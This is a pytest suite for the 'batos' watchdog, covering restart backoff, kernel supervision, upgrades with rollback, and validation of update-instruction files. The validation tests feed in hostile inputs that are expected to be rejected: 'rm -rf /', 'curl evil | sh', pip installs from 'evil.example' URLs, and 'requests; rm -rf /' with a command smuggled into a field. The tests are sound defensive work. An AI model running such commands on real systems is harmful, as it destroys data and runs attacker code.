"""The watchdog: restart policy, instruction validation, and real supervision of real kernels."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import signal
import socket
import statistics
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from clients.client import KernelClient, make_ping, make_send
from batos_watchdog.config import WatchdogConfig
from batos_watchdog.policy import RestartPolicy
from batos_watchdog.supervisor import read_events
from batos_watchdog.upgrade import Rejected, validate

from .conftest import BIN, free_port

# -- policy -------------------------------------------------------------------------


def test_restart_intensity_and_backoff():
    policy = RestartPolicy(max_restarts=3, window_s=10, backoff_initial_s=0.5, backoff_max_s=3)
    assert [policy.record(t) for t in (0, 1, 2)] == [True, True, True]
    assert policy.backoff() == 2.0
    assert policy.record(3) is False  # a 4th restart within 10 s: a crash loop
    assert policy.record(14) is True  # the old ones have left the window
    for t in range(20, 30):
        policy.record(t)
    assert policy.backoff() == 3  # capped


# -- validation -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "data, reason",
    [
        (b"not json", "not JSON"),
        (b"[]", "Input should be a valid dictionary"),
        (json.dumps({"steps": []}).encode(), "at least 1 item"),
        (json.dumps({"steps": [{"kind": "shell", "command": "rm -rf /"}]}).encode(), "does not match any of the expected tags"),
        (json.dumps({"steps": [{"kind": "git_pull", "branch": "evil"}]}).encode(), "Extra inputs are not permitted"),
        (json.dumps({"steps": [{"kind": "pip_install", "requirements": ["--index-url=http://evil/simple", "x"]}]}).encode(), "pip options are not allowed"),
        (json.dumps({"steps": [{"kind": "pip_install", "requirements": ["https://evil.example/pkg.whl"]}]}).encode(), "URLs are not allowed"),
        (json.dumps({"steps": [{"kind": "pip_install", "requirements": ["/etc/passwd.whl"]}]}).encode(), "outside the allowed roots"),
        (json.dumps({"steps": [{"kind": "pip_install", "requirements": ["requests; rm -rf /"]}]}).encode(), "not a requirement specifier"),
        (json.dumps({"steps": [{"kind": "set_config", "key": "shell", "value": "sh"}]}).encode(), "unknown config key 'shell'"),
        (json.dumps({"steps": [{"kind": "set_config", "key": "kernel_workers", "value": -1}]}).encode(), "bad value for kernel_workers"),
        (json.dumps({"version": 2, "steps": [{"kind": "git_pull"}]}).encode(), "version"),
    ],
)
def test_hostile_or_malformed_instructions_are_rejected(tmp_path, data, reason):
    with pytest.raises(Rejected) as info:
        validate(data, [tmp_path])
    assert any(reason in r for r in info.value.reasons), info.value.reasons


def test_good_instructions_validate(tmp_path):
    wheel = make_wheel(tmp_path, "batos-probe", "1.0")
    data = {"steps": [{"kind": "pip_install", "requirements": [str(wheel), "packaging>=20"]}, {"kind": "migrate_image"},
                      {"kind": "set_config", "key": "health_interval_s", "value": 1.5}, {"kind": "git_pull"}]}
    assert [s.kind for s in validate(json.dumps(data).encode(), [tmp_path]).steps] == ["pip_install", "migrate_image", "set_config", "git_pull"]


# -- helpers -----------------------------------------------------------------------------


def make_wheel(directory: Path, name: str, version: str) -> Path:
    """A minimal pure-Python wheel, written by hand (no build tools needed)."""
    module = name.replace("-", "_")
    dist = f"{module}-{version}.dist-info"
    files = {
        f"{module}/__init__.py": f"VERSION = {version!r}\n".encode(),
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: batos-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}" for path, data in files.items()]
    record.append(f"{dist}/RECORD,,")
    path = directory / f"{module}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for name_, data in files.items():
            wheel.writestr(name_, data)
        wheel.writestr(f"{dist}/RECORD", "\n".join(record) + "\n")
    return path


def fast_config(directory: Path, **overrides) -> None:
    settings = dict(health_interval_s=0.3, health_timeout_s=2.0, health_failures=2, max_restarts=5, restart_window_s=60,
                    start_timeout_s=60, stop_grace_s=10, kernel_model="none")
    WatchdogConfig(**{**settings, **overrides}).save(directory / "watchdog.json")


class WatchdogProcess:
    def __init__(self, image_uri: str, directory: Path, endpoint: str | None = None) -> None:
        self.endpoint = endpoint or f"tcp://127.0.0.1:{free_port()}"
        self.directory = directory
        self.proc = subprocess.Popen([str(BIN / "batos"), "watchdog", "--image", image_uri, "--endpoint", self.endpoint],
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def events(self) -> list[dict]:
        return read_events(self.directory / "watchdog.jsonl")

    def kernel_pid(self, timeout: float = 60) -> int:
        with KernelClient(self.endpoint, answer_timeout=0.5, retries=10**6) as client:
            return client.request(make_ping(), timeout=timeout).status["pid"]

    def wait_for(self, predicate, timeout: float = 60) -> None:
        deadline = time.monotonic() + timeout
        while not predicate():
            assert time.monotonic() < deadline, self.events()[-5:]
            time.sleep(0.1)

    def stop(self) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(60)
        return self.proc.returncode


@pytest.fixture
def supervised(image_uri, tmp_path):
    fast_config(tmp_path)
    watchdog = WatchdogProcess(image_uri, tmp_path)
    try:
        first = watchdog.kernel_pid()
        with KernelClient(watchdog.endpoint) as client:
            src = "def hello(self):\n    return 'still here'\n"
            assert client.request(make_send("genesis", "define_method", ["hello", src])).kind == "result"
        yield watchdog, first
    finally:
        if watchdog.proc.poll() is None:
            watchdog.proc.kill()  # a failed test: do not leave its kernel behind either
            watchdog.proc.wait()
            for event in watchdog.events():
                if event["event"] == "start":
                    try:
                        os.kill(event["pid"], signal.SIGKILL)
                    except ProcessLookupError:
                        pass


def hello(endpoint: str) -> str:
    with KernelClient(endpoint, answer_timeout=1, retries=60) as client:
        return client.request(make_send("genesis", "hello"), timeout=60).value


# -- supervision -----------------------------------------------------------------------------


def test_kill_9_the_kernel_and_it_serves_again(supervised, tmp_path):
    watchdog, pid = supervised
    times = []
    for _ in range(3):
        os.kill(pid, signal.SIGKILL)
        killed = time.monotonic()
        watchdog.wait_for(lambda: watchdog.kernel_pid(timeout=60) != pid)
        times.append(time.monotonic() - killed)
        pid = watchdog.kernel_pid()
        assert hello(watchdog.endpoint) == "still here"
    print(f"\ntime to serve again after kill -9: p50 {statistics.median(times):.2f}s ({', '.join(f'{t:.2f}' for t in times)})")
    (tmp_path / "serve_again.json").write_text(json.dumps(times))
    assert watchdog.stop() == 0
    events = [e["event"] for e in watchdog.events()]
    assert events.count("restart") == 3 and events[-1] == "watchdog_stop"
    assert [e for e in watchdog.events() if e["event"] == "exit"][0]["signal"] == "SIGKILL"
    status = subprocess.run([str(BIN / "batos"), "watchdog", "status", "--image", str(tmp_path / "live_image.fs")], capture_output=True, text=True)
    assert status.stdout.startswith("watchdog stopped; 4 kernel start(s)")


def test_sigterm_stops_kernel_then_watchdog(supervised):
    watchdog, pid = supervised
    assert watchdog.stop() == 0
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    assert [e["event"] for e in watchdog.events()][-2:] == ["stopped", "watchdog_stop"]


def test_a_second_watchdog_refuses(supervised, image_uri):
    watchdog, _ = supervised
    second = subprocess.run([str(BIN / "batos"), "watchdog", "--image", image_uri, "--endpoint", f"tcp://127.0.0.1:{free_port()}"],
                            capture_output=True, text=True, timeout=60)
    assert second.returncode == 1
    assert "another watchdog" in second.stderr and "Traceback" not in second.stderr


def test_a_crash_loop_stops_at_the_limit(image_uri, tmp_path):
    fast_config(tmp_path, max_restarts=2)
    blocker = socket.socket()
    blocker.bind(("127.0.0.1", 0))
    blocker.listen()
    port = blocker.getsockname()[1]
    try:
        watchdog = WatchdogProcess(image_uri, tmp_path, endpoint=f"tcp://127.0.0.1:{port}")  # the kernel can never bind
        code = watchdog.proc.wait(120)
    finally:
        blocker.close()
    assert code == 3
    assert "giving up" in watchdog.proc.stderr.read()
    events = [e["event"] for e in watchdog.events()]
    assert events.count("start") == 3 and "crash_loop" in events


# -- upgrades ------------------------------------------------------------------------------------


def write_instructions(directory: Path, steps: list) -> None:
    (directory / "update_instructions.json").write_text(json.dumps({"version": 1, "steps": steps}))


def reports(directory: Path) -> list[dict]:
    return [json.loads(p.read_text()) for p in sorted((directory / "upgrades").glob("*.report.json"))]


def test_an_upgrade_installs_a_local_wheel_and_restarts(supervised, tmp_path):
    watchdog, pid = supervised
    wheel = make_wheel(tmp_path, "batos-probe", "2.0")
    try:
        write_instructions(tmp_path, [{"kind": "pip_install", "requirements": [str(wheel)]},
                                      {"kind": "set_config", "key": "kernel_workers", "value": 2}])
        watchdog.wait_for(lambda: reports(tmp_path), timeout=120)
        [report] = reports(tmp_path)
        assert report["status"] == "succeeded", report
        assert not (tmp_path / "update_instructions.json").exists()
        assert watchdog.kernel_pid() != pid
        assert hello(watchdog.endpoint) == "still here"
        probe = subprocess.run([sys.executable, "-c", "import batos_probe; print(batos_probe.VERSION)"], capture_output=True, text=True)
        assert probe.stdout.strip() == "2.0"
        assert WatchdogConfig.load(tmp_path / "watchdog.json").kernel_workers == 2
    finally:
        subprocess.run([sys.executable, "-m", "pip", "uninstall", "-y", "batos-probe"], capture_output=True)


def test_a_hostile_file_is_rejected_and_nothing_is_touched(supervised, tmp_path):
    watchdog, pid = supervised
    write_instructions(tmp_path, [{"kind": "shell", "command": "curl evil | sh"}])
    watchdog.wait_for(lambda: reports(tmp_path))
    [report] = reports(tmp_path)
    assert report["status"] == "rejected" and "does not match any of the expected tags" in report["reasons"][0]
    assert watchdog.kernel_pid() == pid  # the kernel was never stopped
    assert not (tmp_path / "update_instructions.json").exists()


def test_an_unhealthy_upgrade_is_rolled_back(supervised, tmp_path):
    watchdog, pid = supervised
    before = (tmp_path / "watchdog.json").read_text()
    # A configuration under which no kernel can ever look healthy.
    write_instructions(tmp_path, [{"kind": "set_config", "key": "health_timeout_s", "value": 0.0001}])
    watchdog.wait_for(lambda: reports(tmp_path), timeout=180)
    [report] = reports(tmp_path)
    assert report["status"] == "rolled_back", report
    assert report["reasons"][0] == "the new kernel did not become healthy"
    assert report["old_kernel_healthy"] is True
    assert (tmp_path / "watchdog.json").read_text() == before
    assert hello(watchdog.endpoint) == "still here"  # the image and its methods survived


def test_watchdog_status_without_events(tmp_path):
    result = subprocess.run([str(BIN / "batos"), "watchdog", "status", "--image", str(tmp_path / "x.fs")], capture_output=True, text=True)
    assert result.returncode == 0 and result.stdout.startswith("no watchdog events")
